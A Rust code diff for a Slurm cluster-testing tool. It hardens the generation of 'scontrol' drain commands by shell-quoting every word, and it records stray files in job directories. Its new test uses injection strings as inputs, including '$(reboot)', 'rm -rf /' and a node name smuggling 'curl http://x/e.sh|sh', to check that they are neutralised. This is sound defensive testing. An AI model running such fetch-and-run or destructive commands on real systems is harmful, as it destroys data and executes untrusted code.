@@ -116,23 +116,7 @@ impl std::fmt::Display for JobRef {
     }
 }
 
-/// Submission tokens: letters and digits.
-pub fn is_token(s: &str) -> bool {
-    !s.is_empty() && s.len() <= 32 && s.chars().all(|c| c.is_ascii_alphanumeric())
-}
-
-/// Slurm job ids: digits, or array jobs "123_4".
-pub fn is_job_id(s: &str) -> bool {
-    !s.is_empty() && s.chars().all(|c| c.is_ascii_digit() || c == '_')
-}
-
-/// Node names become file names: no separators, nothing hidden.
-pub fn is_node_name(s: &str) -> bool {
-    !s.is_empty()
-        && !s.starts_with('.')
-        && s.chars()
-            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
-}
+pub use oslab_core::tags::{is_job_id, is_node_name, is_token};
 
 /// A node's run as its job directory holds it.
 pub struct HandedIn {
@@ -161,6 +145,9 @@ pub struct JobResults {
     pub unreadable: Vec<(String, String)>,
     /// The nodes the job was submitted to (from the manifest).
     pub expected: Vec<String>,
+    /// Files in the job's directory that are no node's (a name [`parse_node_file`] refuses),
+    /// each as one printable line: named, never read.
+    pub skipped: Vec<String>,
 }
 
 /// Where a node of a job stands.
@@ -309,6 +296,7 @@ pub fn read_job(job: &JobRef, dir: &Path) -> Result<JobResults, FileError> {
         crashed: Vec::new(),
         unreadable: Vec::new(),
         expected: Vec::new(),
+        skipped: Vec::new(),
     };
     let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
         .map_err(|e| FileError(format!("cannot read {}: {e}", dir.display())))?
@@ -317,10 +305,16 @@ pub fn read_job(job: &JobRef, dir: &Path) -> Result<JobResults, FileError> {
         .collect();
     files.sort();
     for path in files {
-        let Some(fname) = path.file_name().and_then(|n| n.to_str()) else {
-            continue;
-        };
-        let Some((node, kind)) = parse_node_file(fname) else {
+        let raw = path.file_name().unwrap_or_default().to_string_lossy();
+        let Some((node, kind)) = path
+            .file_name()
+            .and_then(|n| n.to_str())
+            .and_then(parse_node_file)
+        else {
+            if raw != MANIFEST {
+                r.skipped
+                    .push(format!("{:?}", oslab_core::text::shortened(&raw, 60)));
+            }
             continue;
         };
         if kind == NodeFile::Run {
@@ -409,6 +403,12 @@ impl Collected {
         for (node, state, detail) in j.states() {
             out.push(format!("  {node:<12} {:<8} {detail}", state.as_str()));
         }
+        if !j.skipped.is_empty() {
+            out.push(format!(
+                "  skipped, no node's file name: {}",
+                j.skipped.join(", ")
+            ));
+        }
         out
     }
 
@@ -428,7 +428,7 @@ impl Collected {
             .collect();
         serde_json::json!({
             "job": j.job.job, "submission": j.job.token, "new": new,
-            "already": self.already, "nodes": nodes,
+            "already": self.already, "nodes": nodes, "skipped": j.skipped,
         })
     }
 }
@@ -718,22 +718,30 @@ pub fn drain_script(job: &JobRef, s: &summary::FleetSummary) -> String {
     s.verdicts
         .iter()
         .filter(|v| v.verdict != summary::Health::Healthy)
-        .map(|v| {
-            let why =
-                oslab_core::text::one_line(&v.why.join("; ")).replace(['"', '\\', '$', '`'], "'");
-            format!(
-                "scontrol update NodeName={} State=DRAIN Reason=\"oslab fleet {job}: {}{}\"",
-                v.node,
-                v.verdict.as_str(),
-                if why.is_empty() {
-                    String::new()
-                } else {
-                    format!(": {why}")
-                }
-            )
-        })
-        .map(|line| line + "\n")
+        .map(|v| drain_line(job, &v.node, v.verdict.as_str(), &v.why) + "\n")
         .collect()
+}
+
+/// One node's `scontrol` line, every word quoted for the shell. A name that is not a node's (a
+/// run stored before names were checked) never reaches the shell: it is named in a comment, in
+/// Rust's debug form, on one line.
+fn drain_line(job: &JobRef, node: &str, verdict: &str, why: &[String]) -> String {
+    if !is_node_name(node) {
+        return format!(
+            "# not drained: {:?} is not a node name",
+            oslab_core::text::shortened(node, 60)
+        );
+    }
+    let why = oslab_core::text::one_line(&why.join("; ")).into_owned();
+    let reason = match why.is_empty() {
+        true => format!("oslab fleet {job}: {verdict}"),
+        false => format!("oslab fleet {job}: {verdict}: {why}"),
+    };
+    format!(
+        "scontrol update NodeName={} State=DRAIN Reason={}",
+        oslab_core::text::shell_word(node),
+        oslab_core::text::shell_word(&reason)
+    )
 }
 
 /// A node's part of a fleet job, once its `oslab run` ended: the latest run of the private store
@@ -801,5 +809,38 @@ mod tests {
         let t = JobRef::draw_token().unwrap();
         assert!(is_token(&t) && t.len() == 8 && t != JobRef::draw_token().unwrap());
         assert!(is_node_name("n01.cluster") && !is_node_name("../x") && !is_node_name(".h"));
+    }
+
+    #[test]
+    fn a_drain_line_is_one_quoted_command_or_a_comment() {
+        let job = JobRef::parse("4711.0a1b2c3d").unwrap();
+        let why = vec!["clock 20% slow; it's \"$(reboot)\"\nrm -rf /".to_string()];
+        let line = drain_line(&job, "n01", "sick", &why);
+        assert_eq!(line.lines().count(), 1, "{line}");
+        // The shell reads it back as exactly four words, the reason whole.
+        let out = std::process::Command::new("bash")
+            .arg("-c")
+            .arg(format!(
+                "set -- {}; printf '%s\\n' \"$#\" \"$4\"",
+                line.trim_start_matches("scontrol ")
+            ))
+            .output()
+            .unwrap();
+        let out = String::from_utf8(out.stdout).unwrap();
+        assert!(
+            out.starts_with("4\n") && out.contains("$(reboot)"),
+            "{line}\n{out}"
+        );
+        for crafted in [
+            "n9 State=RESUME; curl http://x/e.sh|sh; #",
+            "n9\nrm -rf /x #",
+            "n'1",
+        ] {
+            let line = drain_line(&job, crafted, "sick", &[]);
+            assert!(
+                line.starts_with("# not drained: ") && line.lines().count() == 1,
+                "{line}"
+            );
+        }
     }
 }
